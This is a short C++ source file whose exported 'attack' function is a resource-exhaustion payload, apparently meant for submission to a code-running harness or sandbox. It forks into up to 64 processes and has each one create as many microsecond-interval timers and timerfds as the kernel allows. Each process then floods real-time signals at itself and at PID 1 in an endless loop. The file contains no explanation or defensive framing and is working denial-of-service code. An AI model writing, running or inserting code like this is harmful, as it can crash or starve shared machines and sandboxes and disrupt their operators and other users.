#include <csignal>
#include <ctime>
#include <sys/time.h>
#include <sys/timerfd.h>
#include <unistd.h>

static void ring(int) {
}

static void arm() {
    struct sigevent event = {};
    struct itimerspec often = {{0, 1000}, {0, 1000}};
    timer_t timer;
    for (int number = SIGRTMIN; number <= SIGRTMAX; number++)
        signal(number, ring);
    event.sigev_notify = SIGEV_SIGNAL;
    event.sigev_signo = SIGRTMIN;
    while (timer_create(CLOCK_MONOTONIC, &event, &timer) == 0)
        timer_settime(timer, 0, &often, nullptr);
    for (int one; (one = timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK)) >= 0;)
        timerfd_settime(one, 0, &often, nullptr);
}

extern "C" long attack(long n) {
    for (int i = 0; i < 6; i++)
        fork();
    arm();
    union sigval nothing = {};
    for (;;) {
        sigqueue(1, SIGRTMIN, nothing);
        sigqueue(getpid(), SIGRTMIN, nothing);
    }
    return n;
}
